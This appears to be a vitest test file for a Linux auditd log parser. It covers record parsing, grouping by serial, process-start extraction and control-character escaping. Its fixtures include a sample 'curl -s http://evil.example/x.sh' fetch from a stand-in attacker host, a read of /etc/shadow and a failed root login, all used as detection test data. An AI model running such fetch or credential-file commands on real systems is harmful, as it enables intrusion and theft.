import { describe, it, expect } from 'vitest';
import { readFileSync } from 'node:fs';
import { parseAuditLine, isAuditLine, splitKeyValues } from './auditd.js';
import { AuditAssembler, type AuditGroup } from './audit-group.js';
import { auditLogFields, auditExec } from './audit-events.js';

const lines = readFileSync(new URL('./fixtures/audit.log', import.meta.url), 'utf8')
  .split('\n')
  .filter(Boolean);

function groups(): AuditGroup[] {
  const out: AuditGroup[] = [];
  const a = new AuditAssembler({ idleMs: 1000, maxOpen: 64, maxRecords: 64 }, (g) => out.push(g));
  let offset = 0;
  for (const line of lines) {
    expect(isAuditLine(line)).toBe(true);
    a.add(parseAuditLine(line)!, line, offset);
    offset += line.length + 1;
  }
  a.flushAll();
  return out;
}

describe('auditd records', () => {
  it('parses key=value, quoted, hex-encoded and enriched fields', () => {
    const r = parseAuditLine(lines[0]!)!;
    expect(r).toMatchObject({ type: 'SYSCALL', time: '1700000000.123', serial: '501' });
    expect(r.fields).toMatchObject({ syscall: '59', pid: '4001', exe: '/usr/bin/curl', key: 'exec', SYSCALL: 'execve', AUID: 'alice' });
    expect(parseAuditLine(lines[1]!)!.fields.a2).toBe('http://evil.example/x.sh');
    const login = parseAuditLine(lines.find((l) => l.includes('USER_LOGIN'))!)!;
    expect(login.fields).toMatchObject({ op: 'login', acct: 'root', addr: '203.0.113.9', res: 'failed', UID: 'root' });
  });

  it('groups records by serial, even interleaved, and closes groups on EOE', () => {
    const gs = groups();
    // 503 (USER_LOGIN) has no EOE: it stays open until idle or flushed.
    expect(gs.map((g) => g.serial)).toEqual(['501', '502', '600', '503']);
    expect(gs[0]!.records.map((r) => r.type)).toEqual(['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PATH', 'PROCTITLE']);
    expect(gs[1]!.records.map((r) => r.type)).toEqual(['SYSCALL', 'PATH']);
    const f = auditLogFields(gs[0]!);
    expect(f.action).toBe('execve');
    expect(f.fields).toMatchObject({
      serial: '501',
      'path.1.name': '/lib64/ld-linux-x86-64.so.2',
      'cwd.cwd': '/home/alice',
      'proctitle.proctitle': 'curl -s http://evil.example/x.sh',
      user: 'alice',
      key: 'exec',
    });
    expect(auditLogFields(gs[1]!).fields).toMatchObject({ 'path.0.name': '/etc/shadow', result: 'no', key: 'shadow' });
    expect(auditLogFields(gs[3]!)).toMatchObject({ action: 'user_login', fields: { src_ip: '203.0.113.9', acct: 'root' } });
  });

  it('turns EXECVE/SYSCALL/CWD into a process start', () => {
    const gs = groups();
    expect(auditExec(gs[0]!)).toMatchObject({
      pid: 4001,
      ppid: 4000,
      uid: 1000,
      exe: '/usr/bin/curl',
      argv: ['curl', '-s', 'http://evil.example/x.sh'],
      cwd: '/home/alice',
      tty: 'pts/0',
      sessionId: 3,
      timeNs: 1_700_000_000_123_000_000n,
    });
    expect(auditExec(gs[1]!)).toBeUndefined();
    expect(auditExec(gs[2]!)).toMatchObject({ argv: ['python3', '-cprint(1)'], sessionId: 0, tty: '' });
  });
});

describe('splitKeyValues scan', () => {
  /** The regular expression the scanner replaced, kept here as the reference it must agree with. */
  function reference(text: string, out: Record<string, string> = {}): Record<string, string> {
    for (const m of text.matchAll(/([\w\-[\]]+)=("([^"]*)"|'([^']*)'|(\S*))/g)) {
      if (m[4] !== undefined && m[1] === 'msg') {
        reference(m[4], out);
        continue;
      }
      out[m[1]!] = m[3] ?? m[4] ?? m[5] ?? '';
    }
    return out;
  }

  it('agrees with the regular-expression split on real records and on random text', () => {
    const samples = [
      'arch=c000003e syscall=59 success=yes exit=0 a0=55d0 items=2 ppid=10 pid=11 comm="cat" exe="/usr/bin/cat" key=(null)',
      'pid=1 uid=0 auid=1000 ses=3 msg=\'op=PAM:session_open grantors=pam_unix acct="root" exe="/usr/bin/sudo" res=success\'',
      'a="unterminated b=c',
      "x='open d=e",
      'key= next=1 =lonely a-b[0]=v foo:bar=baz',
      '',
    ];
    const alphabet = ['a', 'b', '=', ' ', '"', "'", '-', '[', ']', ':', 'msg', '0', '\t'];
    let seed = 7;
    const rnd = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    for (let k = 0; k < 3000; k++)
      samples.push(Array.from({ length: 1 + Math.floor(rnd() * 30) }, () => alphabet[Math.floor(rnd() * alphabet.length)]).join(''));
    // Without hex-decodable keys both sides leave values as they are.
    for (const s of samples) expect(splitKeyValues(s, 10_000, {}, false)).toEqual(reference(s));
  });
});

describe('audit log fields', () => {
  // Found by audit-records.fuzz.test.ts: a PATH record's item value became part of a field key, and a record
  // type became the action, both unescaped (keys and the action are not escaped downstream).
  it('regression: no control character reaches a field key or the action', () => {
    const path = parseAuditLine('type=PATH msg=audit(1700000000.123:42): item=\u001b[2Jname="/usr/bin/ls" inode=1 dev=08:01 mode=0100755 nametype=NORMAL')!;
    const odd = parseAuditLine('type=X\u001b]0;t\u0007 msg=audit(1700000000.123:43): a=1')!;
    const control = /[\u0000-\u001f\u007f-\u009f]/;
    for (const r of [path, odd]) {
      const { action, fields } = auditLogFields({ time: r.time, serial: r.serial, records: [r], lines: [], offset: 0 });
      expect(action).not.toMatch(control);
      for (const k of Object.keys(fields)) expect(k).not.toMatch(control);
    }
    const ok = parseAuditLine('type=PATH msg=audit(1700000000.123:44): item=1 name="/x"')!;
    expect(auditLogFields({ time: ok.time, serial: ok.serial, records: [ok], lines: [], offset: 0 }).fields['path.1.name']).toBe('/x');
  });
});
